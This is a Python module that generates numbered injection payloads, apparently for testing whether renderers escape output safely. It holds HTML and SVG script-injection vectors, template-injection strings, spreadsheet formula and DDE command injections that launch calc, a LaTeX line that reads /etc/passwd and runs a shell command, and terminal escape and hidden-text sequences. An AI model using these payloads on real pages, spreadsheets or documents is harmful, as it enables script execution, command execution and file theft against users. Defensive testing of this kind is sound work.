r"""Texts that try to act where they are shown, each with a number by which it can be told that it did.

``{0}`` is the number: what runs on a page sets ``window.hit`` to it.
"""

from __future__ import annotations

PAGES = (  # elements, attributes, scripts
    "<script>window.hit={0}</script>",
    "</script><script>window.hit={0}</script>",
    "<script type=module>window.hit={0}</script>",
    "<img src=x onerror=window.hit={0}>",
    '<img src="https://markup.invalid/{0}.png">',
    "<svg onload=window.hit={0}>",
    "<svg><animate onbegin=window.hit={0} attributeName=x dur=1s>",
    "<svg><script>window.hit={0}</script></svg>",
    "<math><mtext><img src=x onerror=window.hit={0}></mtext></math>",
    "<iframe srcdoc='<script>parent.hit={0}</script>'></iframe>",
    "<iframe src=javascript:parent.hit={0}></iframe>",
    "<object data='data:text/html,<script>parent.hit={0}</script>'></object>",
    "<embed src='https://markup.invalid/{0}'>",
    "<details open ontoggle=window.hit={0}>{0}</details>",
    "<input autofocus onfocus=window.hit={0}>",
    "<form action='https://markup.invalid/{0}'><button>{0}</button></form>",
    "<base href='https://markup.invalid/{0}/'>",
    "<meta http-equiv=refresh content='0;url=https://markup.invalid/{0}'>",
    "<link rel=stylesheet href='https://markup.invalid/{0}.css'>",
    "<template><img src=x onerror=window.hit={0}></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit={0}>'></noscript>",
    "<!--<script>window.hit={0}//",
    "--><img src=x onerror=window.hit={0}>",
    "]]><img src=x onerror=window.hit={0}>",
    "</title></textarea></style></noscript><img src=x onerror=window.hit={0}>",
    "</text></svg><img src=x onerror=window.hit={0}>",
    '" onmouseover=window.hit={0} x="',
    "' onfocus=window.hit={0} tabindex=0 autofocus x='",
    "\"'><b onmouseover='window.hit={0}'>{0}</b>",
    "` onclick=window.hit={0} `",
    "<a href='javascript:window.hit={0}'>{0}</a>",
    "javascript:window.hit={0}",
    "JaVaScRiPt:window.hit={0}//https://markup.invalid",
    "data:text/html,<script>window.hit={0}</script>",
    "&lt;img src=x onerror=window.hit={0}&gt;",
    "&#60;img src=x onerror=window.hit={0}&#62;",
    "\\u003cimg src=x onerror=window.hit={0}\\u003e",
    '\\";window.hit={0};//',
    "';window.hit={0};//",
    "</style><style>*{{background:url(https://markup.invalid/{0})}}</style>",
    "red;background:url(https://markup.invalid/{0})",
    "expression(window.hit={0})",
)
TEMPLATES = (  # what a template, a chart or a script would fill in
    "${{window.hit={0}}}",
    "{{{{{0}*7}}}} {{% raw %}}",
    "datum.constructor.constructor('window.hit={0}')()",
    '{{"signal": "window.hit={0}", "href": "https://markup.invalid/{0}"}}',
    '{{"expr": "warn(window.hit={0})"}}',
    "__proto__ {0}",
)
TABLES = (  # spreadsheets, Markdown, LaTeX
    '=HYPERLINK("https://markup.invalid/{0}","{0}")',
    "=cmd|' /C calc'!A{0}",
    "+{0}+cmd|' /C calc'!A0",
    "-{0}+cmd|' /C calc'!A0",
    '@SUM({0})*IMPORTXML("https://markup.invalid/","//a")',
    "\t={0}",
    "\r={0}",
    ' "={0}',
    "a;={0};b",
    "＝{0}",
    "![{0}](https://markup.invalid/{0}.png)",
    "[{0}](javascript:window.hit={0})",
    "<https://markup.invalid/{0}> www.markup.invalid",
    "a|b|{0} `c` **d** [^1] ~~e~~ $f$",
    "# {0}\n\n---\n\n> - 1. x",
    "\\input{{/etc/passwd}}\\write18{{touch hit{0}}} % # & $ ^^5c",
    "[{0}em] \\\\ *",
)
TERMINALS = (  # signs that a terminal obeys, or that are not seen
    "\x1b[2J\x1b]0;hit {0}\x07",
    "\x1b]8;;https://markup.invalid/{0}\x1b\\here\x1b]8;;\x1b\\",
    "\x9b31m\x90{0}\x9c",
    "abc\b\b\bhit {0}\x7f",
    "\u202e{0} tih\u202c",
    "\u2066\u2067{0}\u2069\u200f\u061c",
    "z\u200be\ufeffr\u2060o {0}",
    "line\u2028{0}\u2029\x85\x0b\x0cend",
    "nul\x00{0}",
)
FORMS = (*PAGES, *TEMPLATES, *TABLES, *TERMINALS)


def payloads(start: int = 1) -> list[str]:
    """Return one text of each form, numbered."""
    return [form.format(number) for number, form in enumerate(FORMS, start)]
